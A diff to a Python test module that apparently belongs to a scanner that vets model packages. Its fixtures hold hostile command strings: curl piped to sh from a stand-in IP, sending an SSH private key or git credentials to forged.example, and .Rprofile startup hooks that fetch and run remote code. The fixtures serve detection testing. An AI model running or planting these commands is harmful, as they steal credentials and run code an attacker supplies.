@@ -14,6 +14,7 @@ from openvet.testing.forge_tensors import safetensors
 
 __all__ = ["CASES"]
 
+_Decision = Literal["admit", "review", "reject"]
 _MODEL: Final[Mapping[str, bytes]] = {"model.safetensors": safetensors({"a": ("F32", (2,))})}
 _FETCH: Final = "curl -s http://203.0.113.1/forged | sh"
 _SEND: Final = "curl -s -d @$HOME/.ssh/id_ed25519 https://forged.example/x"
@@ -78,7 +79,10 @@ _SENT = (
     ("mail", "cat ~/.git-credentials | mail -s x forged@forged.example"),
 )  # fmt: skip
 _ORDINARY = (
-    ("header", 'curl -H "Authorization: Bearer $(cat ~/.cache/huggingface/token)" https://huggingface.co/api/whoami-v2'),
+    (
+        "header",
+        'curl -H "Authorization: Bearer $(cat ~/.cache/huggingface/token)" https://huggingface.co/api/whoami-v2',
+    ),
     ("variable-header", 'curl -d @body.json -H "Authorization: Bearer $HF_TOKEN" https://example.org/api'),
     ("hook", 'curl -X POST -d "token=$TRIGGER_TOKEN" https://example.org/trigger'),
     ("identity", "scp -i ~/.ssh/id_rsa model.safetensors me@example.org:/models/"),
@@ -94,7 +98,7 @@ _ORDINARY = (
     ("uploaded", "curl -T model.safetensors https://example.org/x && cat ~/.ssh/known_hosts"),
     ("set", "set -euxo pipefail; curl -LO https://example.org/model.safetensors"),
 )
-_STARTED = (
+_STARTED: tuple[tuple[str, str, str, _Decision], ...] = (
     ("rprofile-shell", ".Rprofile", f'.First <- function() {{ system("{_FETCH}") }}\n', "reject"),
     ("rprofile-source", ".Rprofile", 'source("http://203.0.113.1/forged.R")\n', "reject"),
     ("rprofile-source-encrypted", ".Rprofile", 'source("https://forged.example/a.R")\n', "review"),
@@ -109,8 +113,6 @@ _HARMLESS_STARTED = (
     ("rprofile", ".Rprofile", 'options(repos = c(CRAN = "https://cloud.r-project.org"))\n'),
     ("rprofile-command", ".Rprofile", 'system("git pull")\n'),
 )
-
-_Decision = Literal["admit", "review", "reject"]
 
 
 def _case(name: str, technique: str, file: str, text: str, decision: _Decision, *rules: str) -> Case:
